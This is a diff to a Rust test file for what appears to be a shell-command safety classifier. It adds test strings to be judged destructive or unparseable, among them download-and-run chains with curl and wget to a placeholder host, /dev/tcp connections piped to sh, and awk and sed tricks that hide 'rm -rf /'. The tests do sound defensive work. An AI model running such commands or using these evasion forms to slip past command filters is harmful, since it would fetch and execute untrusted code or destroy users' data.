@@ -118,6 +118,33 @@ fn code_from_the_network_is_destructive_or_unparseable() {
             "perl -e 'system(\"curl https://x | sh\")'",
             "f() { curl https://x; }; f | sh",
             "sh -c 'curl https://x' | sh",
+            "curl -fsSLo i.sh https://x && sh i.sh",
+            "curl -so y https://x && sh y",
+            "curl -Lo y https://x && sh y",
+            "curl -soy https://x && sh y",
+            "curl -so/tmp/y https://x; . /tmp/y",
+            "curl -so\"$f\" https://x; sh \"$f\"",
+            "curl --output=y https://x && sh y",
+            "curl --output=\"$d/i.sh\" https://x; sh \"$d/i.sh\"",
+            "curl -sSLO https://x/i.sh && sh i.sh",
+            "wget -qO y https://x && sh y",
+            "wget -qOy https://x && sh y",
+            "wget --output-doc y https://x && sh y",
+            "wget https://x/i.sh && sh i.sh",
+            "wget https://x && sh index.html",
+            "wget https://x/a/ && sh index.html",
+            "wget 'https://x/i.sh?a=1' && sh 'i.sh?a=1'",
+            "curl https://x | make -f -",
+            "curl https://x | make -sf-",
+            "curl https://x | make --file=- all",
+            "curl https://x | gmake --makefile /dev/stdin",
+            "curl -o m https://x; make -f m",
+            "curl https://x | builtin eval \"$(cat)\"",
+            "builtin eval \"$(curl https://x)\"",
+            "curl https://x | builtin source /dev/stdin",
+            "exec 5<>/dev/tcp/h/80; cat <&5 | sh",
+            "exec 5<>/dev/tcp/h/80; cat <&5 > y; sh y",
+            "cat <<E | sh\n$(curl https://x)\nE",
         ],
         |kind| kind > Kind::Writes,
     );
@@ -151,9 +178,16 @@ fn text_that_a_shell_gets_from_another_command_is_unparseable() {
         ],
         |kind| kind == Kind::Unparseable,
     );
-    all_are(&["echo 'rm x' | sh", "printf 'rm x' | bash", "printf '%s\\n' 'rm x' | sh"], |kind| {
-        kind == Kind::Destructive
-    });
+    all_are(
+        &[
+            "echo 'rm x' | sh",
+            "printf 'rm x' | bash",
+            "printf '%s\\n' 'rm x' | sh",
+            "cat <<E | sh\nrm -rf x\nE",
+            "cat <<< 'rm -rf x' | sh",
+        ],
+        |kind| kind == Kind::Destructive,
+    );
 }
 
 #[test]
@@ -246,6 +280,14 @@ fn awk_and_sed_are_judged_by_what_they_run() {
             "gawk -e 'BEGIN{system(\"rm x\")}'",
             "sudo awk 'BEGIN{system(\"rm x\")}'",
             "busybox awk 'BEGIN{system(\"rm x\")}'",
+            "awk 'BEGIN{x=1system(\"rm -rf /\")}'",
+            "awk 'BEGIN{x=1.system(\"rm -rf /\")}'",
+            "awk 'BEGIN{x=.system(\"rm -rf /\")}'",
+            "awk 'BEGIN{x=1e5system(\"rm -rf /\")}'",
+            "awk 'BEGIN{x=0x1system(\"rm -rf /\")}'",
+            "awk '{x=$1system(\"rm x\")}' y",
+            "timeout 5 awk 'BEGIN{x=1system(\"rm x\")}'",
+            "find . -exec awk 'BEGIN{x=1system(\"rm x\")}' {} +",
             "sed '1e rm -rf x' y",
             "sed -e p -e '$e rm x' y",
             "sed --expression='1e rm x' y",
@@ -268,6 +310,9 @@ fn awk_and_sed_are_judged_by_what_they_run() {
     all_are(
         &[
             "awk 'BEGIN{system(\"touch x\")}'",
+            "awk 'BEGIN{1getline<\"f\"}'",
+            "awk 'BEGIN{print 0x1f}'",
+            "find . -exec awk '{x=1print > \"o\"}' {} +",
             "awk '{print > \"out\"}' x",
             "awk '{print | \"sort\"}' x",
             "awk -f prog.awk x",
@@ -288,6 +333,7 @@ fn everyday_commands_keep_their_kind() {
         &[
             "awk '{ i++ / 2 || x }' y",
             "awk '{print $1/$2 \" | \"}' y",
+            "awk '$1 > 1e5 {x += 1.5e-3 * .5} END {print x/1e3}' y",
             "sed -n 's/e/ e /gp' x",
             "sed '/e/d; s/a e/e a/' x",
             "grep -o '/sys/[a-z]*' x",
@@ -347,6 +393,13 @@ fn everyday_commands_keep_their_kind() {
             "timeout $T python3 x.py",
             "V=$(curl https://x); sed -i \"s/1.0/$V/\" Cargo.toml",
             "curl -o out.json https://x; jq . out.json > y",
+            "curl -so out.json https://x; ./build.sh",
+            "curl -XPOST https://x -T build.sh && ./build.sh",
+            "curl -fsSL https://x | tar xz && make -C x -f Makefile.x",
+            "make -f Makefile.x -j4",
+            "cat x | make -f -",
+            "cat <<E | sh\ntouch x\nE",
+            "cat <<E | python3\nprint(1)\nE",
         ],
         |kind| kind == Kind::Writes,
     );
